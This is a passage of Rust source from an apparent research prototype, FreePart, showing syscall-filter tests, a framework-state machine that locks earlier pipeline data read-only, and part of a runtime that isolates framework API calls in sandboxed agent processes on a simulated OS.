        let reg = standard_registry();
        let prof = profile(&reg);
        let apis = BTreeSet::new();
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("empty-agent");
        let filter = build_filter(&reg, &prof, &apis, kernel.process(pid).unwrap());
        for sc in runtime_base() {
            assert!(filter.allows_number(sc), "{sc:?} missing");
        }
    }

    #[test]
    fn ioctl_bound_to_designated_devices() {
        let reg = standard_registry();
        let prof = profile(&reg);
        let apis: BTreeSet<ApiId> = [reg.id_of("cv2.VideoCapture.read").unwrap()]
            .into_iter()
            .collect();
        let mut kernel = Kernel::new();
        kernel.camera = Some(freepart_simos::device::Camera::new(1, 16));
        let pid = kernel.spawn("agent");
        // First-execution phase: the agent opens the camera.
        let fd = kernel
            .syscall(
                pid,
                Syscall::Openat {
                    path: "/dev/video0".into(),
                    create: false,
                },
            )
            .unwrap()
            .fd();
        let filter = build_filter(&reg, &prof, &apis, kernel.process(pid).unwrap());
        assert_eq!(
            filter.evaluate(&Syscall::Ioctl { fd, request: 1 }),
            FilterDecision::Allow
        );
        // A descriptor conjured later (e.g. an attacker-opened socket)
        // fails the rule.
        assert_eq!(
            filter.evaluate(&Syscall::Ioctl {
                fd: freepart_simos::Fd(99),
                request: 1
            }),
            FilterDecision::Kill
        );
    }
}
