//! The framework-state machine and temporal memory protection
//! (paper §4.4.3, Fig. 3).
//!
//! The runtime infers the application's pipeline position from the type
//! of the framework API being invoked. On a state *transition*, every
//! data object defined during the previous state is made read-only via
//! `mprotect` — so an exploit firing later in the pipeline cannot
//! corrupt earlier-stage data (OMRChecker's `template` after
//! `imread()` starts).

use freepart_frameworks::api::ApiType;
use freepart_frameworks::{ObjectId, ObjectStore};
use freepart_simos::{Kernel, Perms, SimResult};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// The five framework states (Initialization + the four API types).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum FrameworkState {
    /// Before any framework API has run.
    Initialization,
    /// Inside a run of APIs of one type.
    InType(ApiType),
}

impl fmt::Display for FrameworkState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FrameworkState::Initialization => f.write_str("Initialization"),
            FrameworkState::InType(t) => t.fmt(f),
        }
    }
}

/// Tracks the current state, which objects were defined in which state,
/// and enforces the read-only transition rule.
#[derive(Debug)]
pub struct StateMachine {
    current: FrameworkState,
    /// Defining state per object (the reverse index of `by_state`).
    defined_in: BTreeMap<ObjectId, FrameworkState>,
    /// Objects defined during each state. Transitions walk only the
    /// previous and next states' sets instead of scanning every live
    /// object, so a transition costs O(objects in those two states).
    by_state: BTreeMap<FrameworkState, BTreeSet<ObjectId>>,
    /// Objects currently locked read-only.
    protected: BTreeSet<ObjectId>,
    /// Total state transitions taken.
    pub transitions: u64,
    /// `(virtual ns, new state, objects newly locked)` per transition —
    /// the Fig. 3 timeline.
    timeline: Vec<(u64, FrameworkState, usize)>,
    enabled: bool,
}

impl StateMachine {
    /// A fresh machine in the Initialization state.
    pub fn new(enabled: bool) -> StateMachine {
        StateMachine {
            current: FrameworkState::Initialization,
            defined_in: BTreeMap::new(),
            by_state: BTreeMap::new(),
            protected: BTreeSet::new(),
            transitions: 0,
            timeline: Vec::new(),
            enabled,
        }
    }

    /// The current framework state.
    pub fn current(&self) -> FrameworkState {
        self.current
    }

    /// True when observing an API of type `t` would change state (and
    /// therefore run an `mprotect` storm). The async runtime uses this
    /// to drain in-flight calls *before* the storm.
    pub fn would_transition(&self, t: ApiType) -> bool {
        FrameworkState::InType(t) != self.current
    }

    /// Registers an object as defined in the current state.
    pub fn define(&mut self, id: ObjectId) {
        if !self.defined_in.contains_key(&id) {
            self.defined_in.insert(id, self.current);
            self.by_state.entry(self.current).or_default().insert(id);
        }
    }

    /// The state an object was defined in, if tracked.
    pub fn defined_state(&self, id: ObjectId) -> Option<FrameworkState> {
        self.defined_in.get(&id).copied()
    }

    /// True when the object has been locked read-only.
    pub fn is_protected(&self, id: ObjectId) -> bool {
        self.protected.contains(&id)
    }

    /// Objects currently protected.
    pub fn protected(&self) -> &BTreeSet<ObjectId> {
        &self.protected
    }

    /// Observes an API call of type `t`; on a state change, locks every
    /// object defined during the previous state and — per Fig. 2-e's
    /// "writable *during* data loading APIs" — unlocks objects whose
    /// defining state is being re-entered (cyclic pipelines: video
    /// frames, training loops). Initialization-defined objects are never
    /// re-entered and stay locked forever (the motivating example's
    /// `template`). Returns the number of objects newly protected.
    pub fn observe(
        &mut self,
        t: ApiType,
        kernel: &mut Kernel,
        objects: &ObjectStore,
    ) -> SimResult<usize> {
        let next = FrameworkState::InType(t);
        if next == self.current {
            return Ok(0);
        }
        let prev = self.current;
        self.current = next;
        self.transitions += 1;
        if !self.enabled {
            self.timeline.push((kernel.now_ns(), next, 0));
            return Ok(0);
        }
        // Lock everything defined during the state we just left — only
        // that state's index set is walked, not every tracked object.
        let mut newly = 0;
        let ids: Vec<ObjectId> = self
            .by_state
            .get(&prev)
            .map(|set| {
                set.iter()
                    .filter(|id| !self.protected.contains(id))
                    .copied()
                    .collect()
            })
            .unwrap_or_default();
        for id in ids {
            if Self::lock_object(kernel, objects, id)? {
                self.protected.insert(id);
                newly += 1;
            }
        }
        // Unlock objects owned by the state we are re-entering.
        let reentered: Vec<ObjectId> = self
            .by_state
            .get(&next)
            .map(|set| {
                set.iter()
                    .filter(|id| self.protected.contains(id))
                    .copied()
                    .collect()
            })
            .unwrap_or_default();
        for id in reentered {
            Self::unlock_object(kernel, objects, id)?;
            self.protected.remove(&id);
        }
        self.timeline.push((kernel.now_ns(), next, newly));
        Ok(newly)
    }

    /// The Fig. 3 timeline: `(virtual ns, state entered, objects newly
    /// locked)` per transition.
    pub fn timeline(&self) -> &[(u64, FrameworkState, usize)] {
        &self.timeline
    }

    fn lock_object(kernel: &mut Kernel, objects: &ObjectStore, id: ObjectId) -> SimResult<bool> {
        let Some(meta) = objects.meta(id) else {
            return Ok(false);
        };
        // Shm-resident payloads are locked by downgrading every live
        // grant to read-only — the segment itself is kernel-owned, so
        // this works even while several processes hold mapped views.
        if let Some((seg, _)) = meta.shm {
            kernel.shm_protect_all(seg, Perms::R)?;
            return Ok(true);
        }
        let Some((addr, len)) = meta.buffer else {
            return Ok(false);
        };
        if !kernel.is_running(meta.home) {
            return Ok(false);
        }
        // Differential re-protection: skip the kernel call (and its cost)
        // entirely when every page is already read-only — e.g. a second
        // thread's state machine locking shared host data another thread
        // already locked, or a no-op transition delta.
        if !kernel.perms_match(meta.home, addr, len, Perms::R) {
            kernel.protect(meta.home, addr, len, Perms::R)?;
        }
        Ok(true)
    }

    fn unlock_object(kernel: &mut Kernel, objects: &ObjectStore, id: ObjectId) -> SimResult<()> {
        let Some(meta) = objects.meta(id) else {
            return Ok(());
        };
        if let Some((seg, _)) = meta.shm {
            kernel.shm_protect_all(seg, Perms::RW)?;
            return Ok(());
        }
        let Some((addr, len)) = meta.buffer else {
            return Ok(());
        };
        if !kernel.is_running(meta.home) {
            return Ok(());
        }
        if !kernel.perms_match(meta.home, addr, len, Perms::RW) {
            kernel.protect(meta.home, addr, len, Perms::RW)?;
        }
        Ok(())
    }

    /// Re-applies protection to one object (after the runtime migrated
    /// its payload to a new process, which re-materializes it writable).
    pub fn reapply(
        &self,
        kernel: &mut Kernel,
        objects: &ObjectStore,
        id: ObjectId,
    ) -> SimResult<()> {
        if self.is_protected(id) {
            Self::lock_object(kernel, objects, id)?;
        }
        Ok(())
    }

    /// Forgets an object (destroyed).
    pub fn forget(&mut self, id: ObjectId) {
        if let Some(state) = self.defined_in.remove(&id) {
            if let Some(set) = self.by_state.get_mut(&state) {
                set.remove(&id);
            }
        }
        self.protected.remove(&id);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::ObjectKind;
    use freepart_simos::SimError;

    fn setup() -> (Kernel, ObjectStore, freepart_simos::Pid) {
        let mut k = Kernel::new();
        let pid = k.spawn("host");
        (k, ObjectStore::new(), pid)
    }

    #[test]
    fn transition_protects_previous_state_objects() {
        let (mut k, mut store, pid) = setup();
        let mut sm = StateMachine::new(true);
        let template = store
            .create_with_data(&mut k, pid, ObjectKind::Blob, "template", &[1; 64])
            .unwrap();
        sm.define(template);
        // Initialization → Loading: template (defined in Initialization)
        // becomes read-only.
        let n = sm.observe(ApiType::DataLoading, &mut k, &store).unwrap();
        assert_eq!(n, 1);
        assert!(sm.is_protected(template));
        let meta = store.meta(template).unwrap();
        let err = k.mem_write(pid, meta.buffer.unwrap().0, &[9]).unwrap_err();
        assert!(matches!(err, SimError::Fault(_)));
    }

    #[test]
    fn same_state_calls_do_not_transition() {
        let (mut k, store, _) = setup();
        let mut sm = StateMachine::new(true);
        sm.observe(ApiType::DataProcessing, &mut k, &store).unwrap();
        sm.observe(ApiType::DataProcessing, &mut k, &store).unwrap();
        assert_eq!(sm.transitions, 1);
        assert_eq!(
            sm.current(),
            FrameworkState::InType(ApiType::DataProcessing)
        );
    }

    #[test]
    fn pipeline_progression_locks_stage_by_stage() {
        let (mut k, mut store, pid) = setup();
        let mut sm = StateMachine::new(true);
        sm.observe(ApiType::DataLoading, &mut k, &store).unwrap();
        let loaded = store
            .create_with_data(&mut k, pid, ObjectKind::Blob, "input", &[2; 32])
            .unwrap();
        sm.define(loaded);
        // Loading → Processing: `input` locks.
        let n = sm.observe(ApiType::DataProcessing, &mut k, &store).unwrap();
        assert_eq!(n, 1);
        let processed = store
            .create_with_data(&mut k, pid, ObjectKind::Blob, "result", &[3; 32])
            .unwrap();
        sm.define(processed);
        assert!(!sm.is_protected(processed), "current-state object writable");
        // Processing → Visualizing: `result` locks too.
        let n = sm.observe(ApiType::Visualizing, &mut k, &store).unwrap();
        assert_eq!(n, 1);
        assert!(sm.is_protected(processed));
    }

    #[test]
    fn disabled_machine_tracks_but_never_locks() {
        let (mut k, mut store, pid) = setup();
        let mut sm = StateMachine::new(false);
        let obj = store
            .create_with_data(&mut k, pid, ObjectKind::Blob, "x", &[0; 8])
            .unwrap();
        sm.define(obj);
        let n = sm.observe(ApiType::DataLoading, &mut k, &store).unwrap();
        assert_eq!(n, 0);
        assert!(!sm.is_protected(obj));
        assert_eq!(sm.transitions, 1, "state still tracked");
    }

    #[test]
    fn dead_home_processes_are_skipped() {
        let (mut k, mut store, pid) = setup();
        let mut sm = StateMachine::new(true);
        let obj = store
            .create_with_data(&mut k, pid, ObjectKind::Blob, "x", &[0; 8])
            .unwrap();
        sm.define(obj);
        k.deliver_fault(pid, freepart_simos::FaultKind::Abort, None);
        let n = sm.observe(ApiType::DataLoading, &mut k, &store).unwrap();
        assert_eq!(n, 0, "cannot protect memory of a dead process");
    }

    #[test]
    fn shm_resident_objects_lock_via_grant_downgrade() {
        let (mut k, mut store, pid) = setup();
        let mut sm = StateMachine::new(true);
        let obj = store
            .create_with_data(&mut k, pid, ObjectKind::Blob, "frame", &[7; 4096])
            .unwrap();
        let seg = store.promote_to_shm(&mut k, obj).unwrap().unwrap();
        sm.define(obj);
        let n = sm.observe(ApiType::DataLoading, &mut k, &store).unwrap();
        assert_eq!(n, 1, "shm residency must not evade temporal locking");
        assert!(sm.is_protected(obj));
        // The downgraded grant still reads, but a write now faults.
        assert!(k.shm_read(pid, seg).is_ok());
        assert!(k.shm_write(pid, seg, &[1; 4096]).is_err());
    }

    #[test]
    fn forget_unprotects_tracking() {
        let (mut k, mut store, pid) = setup();
        let mut sm = StateMachine::new(true);
        let obj = store
            .create_with_data(&mut k, pid, ObjectKind::Blob, "x", &[0; 8])
            .unwrap();
        sm.define(obj);
        sm.observe(ApiType::DataLoading, &mut k, &store).unwrap();
        assert!(sm.is_protected(obj));
        sm.forget(obj);
        assert!(!sm.is_protected(obj));
        assert!(sm.defined_state(obj).is_none());
    }
}
