//! The FreePart runtime: hooked API calls become RPCs into isolated
//! agent processes (paper §4.3–§4.4, Fig. 5 right).
//!
//! [`Runtime::install`] spawns the host process plus one agent process
//! per partition, each with its own address space, shared-memory ring to
//! the host, and an RX code page (the target of code-rewrite exploits).
//! [`Runtime::call`] is the hooked interface: it marshals the request,
//! routes it to the right agent (type-neutral APIs follow the calling
//! context), moves object payloads according to the Lazy-Data-Copy
//! policy, drives the framework-state machine's temporal permissions,
//! executes the API *in the agent's process context*, and handles agent
//! crashes with optional restart (at-least-once re-execution).
//!
//! Per-agent seccomp-style filters are sealed after each agent's first
//! completed call — the paper's "first execution unrestricted, then
//! restrict" design.

use crate::partition::PartitionId;
use crate::policy::{HostDataPlacement, Policy, RestartPolicy, SandboxLevel};
use crate::rpc::{CompletionCache, Request, Response};
use crate::state::{FrameworkState, StateMachine};
use crate::syscall_policy::build_filter;
use crate::trace::{AuditRecord, CallOutcome, SpanEvent, SpanPhase, Tracer};
use freepart_analysis::{HybridReport, SyscallProfile, TestCorpus};
use freepart_frameworks::api::{ApiId, ApiRegistry};
use freepart_frameworks::exec::execute;
use freepart_frameworks::{
    ActionReport, ApiCtx, FrameworkError, ObjectId, ObjectKind, ObjectStore, Value,
};
use freepart_simos::{Addr, ChannelId, FaultKind, Kernel, Perms, Pid, ProcessState};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// Identifier of an application thread. Per the paper's §6, every
/// thread gets its **own set of agent processes** (and its own
/// framework-state machine), avoiding cross-thread races on agents.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ThreadId(pub u32);

impl ThreadId {
    /// The application's main thread.
    pub const MAIN: ThreadId = ThreadId(0);
}

impl fmt::Display for ThreadId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "thread{}", self.0)
    }
}

/// Partition-id namespace stride per thread: thread `t`'s instance of
/// partition `p` is `PartitionId(t * THREAD_STRIDE + p)`.
const THREAD_STRIDE: u32 = 1_000;

fn thread_partition(thread: ThreadId, p: PartitionId) -> PartitionId {
    PartitionId(thread.0 * THREAD_STRIDE + p.0)
}

/// Precomputed `ApiId → PartitionId` routing, shared by install-time
/// agent creation, per-thread agent spawning, and the per-call hot path.
/// Built once from the partition plan and the hybrid categorization so
/// no caller re-runs the full `plan.group` computation.
#[derive(Debug, Clone)]
struct RoutingTable {
    /// Canonical partition per catalog API.
    by_api: BTreeMap<ApiId, PartitionId>,
    /// API universe per partition (each agent's filter-building set).
    groups: BTreeMap<PartitionId, BTreeSet<ApiId>>,
    /// Every partition an agent set must cover (plan partitions plus
    /// any partition the grouping routed an API to).
    partitions: BTreeSet<PartitionId>,
}

impl RoutingTable {
    fn build(reg: &ApiRegistry, report: &HybridReport, policy: &Policy) -> RoutingTable {
        let mut by_api = BTreeMap::new();
        let mut groups: BTreeMap<PartitionId, BTreeSet<ApiId>> = BTreeMap::new();
        for spec in reg.iter() {
            let p = policy.plan.partition_of(spec.id, report.type_of(spec.id));
            by_api.insert(spec.id, p);
            groups.entry(p).or_default().insert(spec.id);
        }
        let mut partitions: BTreeSet<PartitionId> = policy.plan.partitions().into_iter().collect();
        partitions.extend(groups.keys().copied());
        RoutingTable {
            by_api,
            groups,
            partitions,
        }
    }
}

/// One isolated agent process.
#[derive(Debug)]
pub struct Agent {
    /// The partition this agent serves.
    pub partition: PartitionId,
    /// Its current process (changes across restarts).
    pub pid: Pid,
    /// Ring channel to the host.
    pub chan: ChannelId,
    /// RX code page — what a code-rewrite exploit tries to patch.
    pub code_page: Addr,
    /// APIs assigned to this agent (filter-building universe).
    pub apis: BTreeSet<ApiId>,
    /// True once the syscall filter is installed and locked.
    pub sealed: bool,
    /// Completed calls.
    pub calls: u64,
    cache: CompletionCache,
}

/// A snapshotted stateful object (for restart restoration, §A.2.4).
#[derive(Debug, Clone)]
struct SnapshotEntry {
    object: ObjectId,
    kind: ObjectKind,
    label: String,
    bytes: Vec<u8>,
}

/// Errors surfaced by [`Runtime::call`].
#[derive(Debug, Clone, PartialEq)]
pub enum CallError {
    /// The API name is not in the registry.
    UnknownApi(String),
    /// The target agent is dead and restart is disabled.
    AgentUnavailable(PartitionId),
    /// The agent crashed (again) while executing this call.
    AgentCrashed(PartitionId),
    /// An argument object's payload died with a crashed process and
    /// could not be restored (§6 "Restoring States of Crashed Process").
    StateLost(ObjectId),
    /// Ordinary framework failure (bad args, missing file, parse error).
    Framework(FrameworkError),
}

impl fmt::Display for CallError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CallError::UnknownApi(n) => write!(f, "unknown API {n}"),
            CallError::AgentUnavailable(p) => write!(f, "agent {p} is down"),
            CallError::AgentCrashed(p) => write!(f, "agent {p} crashed"),
            CallError::StateLost(id) => write!(f, "object {id} lost in a crash"),
            CallError::Framework(e) => e.fmt(f),
        }
    }
}

impl std::error::Error for CallError {}

/// Aggregated runtime statistics for the evaluation tables.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RuntimeStats {
    /// Completed hooked API calls.
    pub rpc_calls: u64,
    /// Direct agent→agent payload moves (lazy copies).
    pub ldc_copies: u64,
    /// Through-host payload moves (eager / host-dereference copies).
    pub host_copies: u64,
    /// Agent restarts performed.
    pub restarts: u64,
    /// Framework-state transitions taken.
    pub transitions: u64,
    /// Objects currently under read-only protection.
    pub protected_objects: u64,
}

/// The installed FreePart runtime for one application.
pub struct Runtime {
    /// The simulated OS everything runs on.
    pub kernel: Kernel,
    /// Live framework objects.
    pub objects: ObjectStore,
    reg: ApiRegistry,
    report: HybridReport,
    profile: SyscallProfile,
    policy: Policy,
    host: Pid,
    routes: RoutingTable,
    agents: BTreeMap<PartitionId, Agent>,
    states: BTreeMap<ThreadId, StateMachine>,
    seq: u64,
    /// One-shot fault injection: kill this partition's agent after its
    /// next successful execution but before the response is delivered.
    crash_before_response: Option<PartitionId>,
    /// Exploit actions observed inside agents (drained by the harness).
    pub exploit_log: Vec<ActionReport>,
    call_log: Vec<ApiId>,
    stats: RuntimeStats,
    tracer: Tracer,
    snapshots: BTreeMap<PartitionId, Vec<SnapshotEntry>>,
    /// Objects pinned to a dedicated data process (code-based API+data
    /// baseline): shipped to users per call and returned afterwards.
    pinned: BTreeMap<ObjectId, Pid>,
}

impl fmt::Debug for Runtime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Runtime")
            .field("host", &self.host)
            .field("agents", &self.agents.len())
            .field("state", &self.state_of(ThreadId::MAIN))
            .finish()
    }
}

impl Runtime {
    /// Installs FreePart: runs the hybrid analysis on the full corpus,
    /// spawns host + agents, and wires the IPC channels.
    pub fn install(reg: ApiRegistry, policy: Policy) -> Runtime {
        let corpus = TestCorpus::full(&reg);
        let report = freepart_analysis::categorize(&reg, &corpus);
        let profile = SyscallProfile::build(&reg, &corpus);
        Runtime::install_with(reg, report, profile, policy)
    }

    /// Installs FreePart with precomputed analysis results.
    pub fn install_with(
        reg: ApiRegistry,
        report: HybridReport,
        profile: SyscallProfile,
        policy: Policy,
    ) -> Runtime {
        let mut kernel = Kernel::new();
        let host = kernel.spawn("host");
        let temporal = policy.temporal_protection;
        let mut states = BTreeMap::new();
        states.insert(ThreadId::MAIN, StateMachine::new(temporal));
        // Route every catalog API to its partition once; install-time
        // agent creation, spawn_thread, and the call hot path all read
        // this table instead of recomputing the grouping.
        let routes = RoutingTable::build(&reg, &report, &policy);
        let mut rt = Runtime {
            kernel,
            objects: ObjectStore::new(),
            reg,
            report,
            profile,
            policy,
            host,
            routes,
            agents: BTreeMap::new(),
            states,
            seq: 0,
            crash_before_response: None,
            exploit_log: Vec::new(),
            call_log: Vec::new(),
            stats: RuntimeStats::default(),
            tracer: Tracer::new(),
            snapshots: BTreeMap::new(),
            pinned: BTreeMap::new(),
        };
        rt.spawn_agent_set(ThreadId::MAIN);
        rt
    }

    /// Spawns one agent per routed partition for `thread`, each with the
    /// routing table's API set for that partition.
    fn spawn_agent_set(&mut self, thread: ThreadId) {
        let partitions: Vec<PartitionId> = self.routes.partitions.iter().copied().collect();
        for p in partitions {
            let apis = self.routes.groups.get(&p).cloned().unwrap_or_default();
            self.spawn_agent(thread_partition(thread, p), apis);
        }
    }

    fn spawn_agent(&mut self, partition: PartitionId, apis: BTreeSet<ApiId>) {
        let pid = self.kernel.spawn(&format!("agent:{partition}"));
        let code_page = self
            .kernel
            .alloc(pid, freepart_simos::PAGE_SIZE, Perms::RX)
            .expect("fresh agent allocates");
        let chan = self
            .kernel
            .create_channel(self.host, pid, 1 << 22)
            .expect("host and agent are alive");
        self.agents.insert(
            partition,
            Agent {
                partition,
                pid,
                chan,
                code_page,
                apis,
                sealed: false,
                calls: 0,
                cache: CompletionCache::new(64),
            },
        );
    }

    // ------------------------------------------------------------------
    // Accessors
    // ------------------------------------------------------------------

    /// The API registry in force.
    pub fn registry(&self) -> &ApiRegistry {
        &self.reg
    }

    /// The hybrid categorization in force.
    pub fn report(&self) -> &HybridReport {
        &self.report
    }

    /// The host process id.
    pub fn host_pid(&self) -> Pid {
        self.host
    }

    /// The current framework state of the main thread.
    pub fn current_state(&self) -> FrameworkState {
        self.state_of(ThreadId::MAIN)
    }

    /// The main thread's Fig. 3 state timeline:
    /// `(virtual ns, state entered, objects newly locked)`.
    pub fn state_timeline(&self) -> Vec<(u64, FrameworkState, usize)> {
        self.states
            .get(&ThreadId::MAIN)
            .map(|s| s.timeline().to_vec())
            .unwrap_or_default()
    }

    /// The current framework state of one thread.
    pub fn state_of(&self, thread: ThreadId) -> FrameworkState {
        self.states
            .get(&thread)
            .map_or(FrameworkState::Initialization, StateMachine::current)
    }

    /// Spawns a fresh set of agent processes (one per partition) for a
    /// new application thread, with its own framework-state machine —
    /// the paper's multi-threading model (§6). Returns the thread id to
    /// pass to [`Runtime::call_on`].
    pub fn spawn_thread(&mut self) -> ThreadId {
        let thread = ThreadId(self.states.keys().map(|t| t.0).max().unwrap_or(0) + 1);
        self.states
            .insert(thread, StateMachine::new(self.policy.temporal_protection));
        self.spawn_agent_set(thread);
        thread
    }

    /// The agent serving a partition, if any.
    pub fn agent(&self, partition: PartitionId) -> Option<&Agent> {
        self.agents.get(&partition)
    }

    /// All partitions with live agent records.
    pub fn partitions(&self) -> Vec<PartitionId> {
        self.agents.keys().copied().collect()
    }

    /// The partition an API is routed to in the *canonical* (non-neutral)
    /// case — a routing-table lookup, not a plan recomputation.
    pub fn partition_of(&self, api: ApiId) -> PartitionId {
        self.routes
            .by_api
            .get(&api)
            .copied()
            .unwrap_or_else(|| self.policy.plan.partition_of(api, self.report.type_of(api)))
    }

    /// Runtime statistics. Transition counts sum over threads;
    /// `protected_objects` is a true gauge — the number of *distinct*
    /// objects currently locked, however many threads track them.
    pub fn stats(&self) -> RuntimeStats {
        let mut distinct: BTreeSet<ObjectId> = BTreeSet::new();
        for s in self.states.values() {
            distinct.extend(s.protected().iter().copied());
        }
        RuntimeStats {
            transitions: self.states.values().map(|s| s.transitions).sum(),
            protected_objects: distinct.len() as u64,
            ..self.stats
        }
    }

    /// Sequence of API calls completed so far.
    pub fn call_log(&self) -> &[ApiId] {
        &self.call_log
    }

    /// Whether any thread's state machine protects a given object.
    pub fn is_protected(&self, id: ObjectId) -> bool {
        self.states.values().any(|s| s.is_protected(id))
    }

    // ------------------------------------------------------------------
    // Observability
    // ------------------------------------------------------------------

    /// Turns span tracing, the per-partition metrics registry, and the
    /// security audit log on. Tracing only *reads* the virtual clock —
    /// it never charges time — so enabling it cannot change any
    /// deterministic benchmark result.
    pub fn enable_tracing(&mut self) {
        self.tracer.enable();
    }

    /// Whether tracing is recording.
    pub fn tracing_enabled(&self) -> bool {
        self.tracer.enabled()
    }

    /// The tracer: spans, marks, audit log, and the per-partition /
    /// per-API metrics registry.
    pub fn tracer(&self) -> &Tracer {
        &self.tracer
    }

    /// Records a driver-level instant mark (pipeline milestones such as
    /// "sample 3" or "frame 7") at the current virtual time.
    pub fn trace_mark(&mut self, label: &str) {
        if self.tracer.enabled() {
            let now = self.kernel.clock().now_ns();
            self.tracer.mark(now, ThreadId::MAIN, label);
        }
    }

    /// Exports the recorded trace as a complete Chrome `trace_event`
    /// JSON object (`{"traceEvents": [...]}`) loadable in
    /// `about:tracing` or Perfetto. Every live partition appears as its
    /// own process row, named by the API types its agent serves; host
    /// activity is process 0.
    pub fn export_chrome_trace(&self) -> String {
        format!(
            "{{\"displayTimeUnit\":\"ms\",\"traceEvents\":{}}}",
            self.tracer
                .chrome_trace_events(&self.reg, &self.partition_labels())
        )
    }

    /// Display labels for every live partition: the partition id plus
    /// the API types its agent serves.
    pub fn partition_labels(&self) -> Vec<(PartitionId, String)> {
        self.agents
            .iter()
            .map(|(p, agent)| {
                let mut types: BTreeSet<String> = agent
                    .apis
                    .iter()
                    .map(|a| self.reg.spec(*a).declared_type.to_string())
                    .collect();
                if types.is_empty() {
                    types.insert("idle".to_owned());
                }
                let label = format!("{p} ({})", types.into_iter().collect::<Vec<_>>().join("+"));
                (*p, label)
            })
            .collect()
    }

    // ------------------------------------------------------------------
    // Host-side data
    // ------------------------------------------------------------------

    /// Allocates host-resident application data (the paper's annotated
    /// critical data structures, e.g. OMRChecker's `template`). The
    /// object participates in temporal protection.
    pub fn host_data(&mut self, label: &str, bytes: &[u8]) -> ObjectId {
        let home = match self.policy.host_data {
            HostDataPlacement::Host => self.host,
            HostDataPlacement::WithType(t) => {
                let p = self.policy.plan.partition_of_type(t);
                self.agents.get(&p).map_or(self.host, |a| a.pid)
            }
            HostDataPlacement::OwnProcessEach => self.kernel.spawn(&format!("data:{label}")),
        };
        let id = self
            .objects
            .create_with_data(&mut self.kernel, home, ObjectKind::Blob, label, bytes)
            .expect("data home is alive");
        if self.policy.host_data == HostDataPlacement::OwnProcessEach {
            self.pinned.insert(id, home);
        }
        self.define_everywhere(id);
        id
    }

    /// Creates a host-homed object of an arbitrary kind (driver-level
    /// plumbing for pipelines that need a pre-existing tensor/Mat).
    pub fn host_object(&mut self, kind: ObjectKind, label: &str, bytes: &[u8]) -> ObjectId {
        let id = self
            .objects
            .create_with_data(&mut self.kernel, self.host, kind, label, bytes)
            .expect("host is alive");
        self.define_everywhere(id);
        id
    }

    fn define_on(&mut self, thread: ThreadId, id: ObjectId) {
        self.states
            .entry(thread)
            .or_insert_with(|| StateMachine::new(self.policy.temporal_protection))
            .define(id);
    }

    /// Registers annotated host data with *every* live thread's state
    /// machine: critical data must stay protected no matter which thread
    /// drives the pipeline past its defining state.
    fn define_everywhere(&mut self, id: ObjectId) {
        for sm in self.states.values_mut() {
            sm.define(id);
        }
    }

    /// Reads an object's payload from the host's perspective — a host
    /// dereference. Remote payloads are *copied* to the host (a counted
    /// non-lazy copy) without moving the object's home: reading a
    /// variable does not relocate it.
    ///
    /// # Errors
    ///
    /// [`CallError::StateLost`] when the payload died with a crashed
    /// agent.
    pub fn fetch_bytes(&mut self, id: ObjectId) -> Result<Vec<u8>, CallError> {
        let meta = self
            .objects
            .meta(id)
            .ok_or(CallError::StateLost(id))?
            .clone();
        if meta.home != self.host {
            if let Some((addr, len)) = meta.buffer {
                let tracing = self.tracer.enabled();
                let fetch_t0 = if tracing {
                    self.kernel.clock().now_ns()
                } else {
                    0
                };
                let bytes = self
                    .kernel
                    .mem_read(meta.home, addr, len)
                    .map_err(|_| CallError::StateLost(id))?;
                self.kernel.charge_copy(len);
                self.stats.host_copies += 1;
                self.charge_transport(len);
                if tracing {
                    let now = self.kernel.clock().now_ns();
                    self.tracer.span(SpanEvent {
                        phase: SpanPhase::HostFetch,
                        seq: self.seq,
                        api: None,
                        partition: None,
                        thread: ThreadId::MAIN,
                        start_ns: fetch_t0,
                        end_ns: now,
                        bytes: len,
                    });
                }
                return Ok(bytes);
            }
        }
        self.objects
            .read_bytes(&mut self.kernel, id)
            .map_err(|_| CallError::StateLost(id))
    }

    /// Ships a pinned object back to its dedicated data process after a
    /// use (the per-access IPC of the code-based API+data baseline).
    fn return_pinned(&mut self, id: ObjectId) -> Result<(), CallError> {
        if let Some(&pin) = self.pinned.get(&id) {
            let home = self.objects.meta(id).map(|m| m.home);
            if home != Some(pin) && self.kernel.is_running(pin) {
                let len = self.objects.meta(id).map_or(0, |m| m.len());
                let tracing = self.tracer.enabled();
                let copy_t0 = if tracing {
                    self.kernel.clock().now_ns()
                } else {
                    0
                };
                self.objects
                    .migrate_direct(&mut self.kernel, id, pin)
                    .map_err(|_| CallError::StateLost(id))?;
                self.stats.host_copies += 1;
                self.charge_transport(len);
                if tracing {
                    let now = self.kernel.clock().now_ns();
                    self.tracer.add_eager_bytes(len);
                    self.tracer.span(SpanEvent {
                        phase: SpanPhase::DataCopy,
                        seq: self.seq,
                        api: None,
                        partition: None,
                        thread: ThreadId::MAIN,
                        start_ns: copy_t0,
                        end_ns: now,
                        bytes: len,
                    });
                }
                self.reapply_all(id);
            }
        }
        Ok(())
    }

    // ------------------------------------------------------------------
    // The hooked call path
    // ------------------------------------------------------------------

    /// Calls a framework API by qualified name.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call(&mut self, name: &str, args: &[Value]) -> Result<Value, CallError> {
        self.call_on(ThreadId::MAIN, name, args)
    }

    /// Calls a framework API by name on a specific application thread:
    /// the call routes to *that thread's* agent set and drives that
    /// thread's framework-state machine.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call_on(
        &mut self,
        thread: ThreadId,
        name: &str,
        args: &[Value],
    ) -> Result<Value, CallError> {
        let api = self
            .reg
            .id_of(name)
            .ok_or_else(|| CallError::UnknownApi(name.to_owned()))?;
        self.call_id_on(thread, api, args)
    }

    /// Calls a framework API by id on the main thread.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call_id(&mut self, api: ApiId, args: &[Value]) -> Result<Value, CallError> {
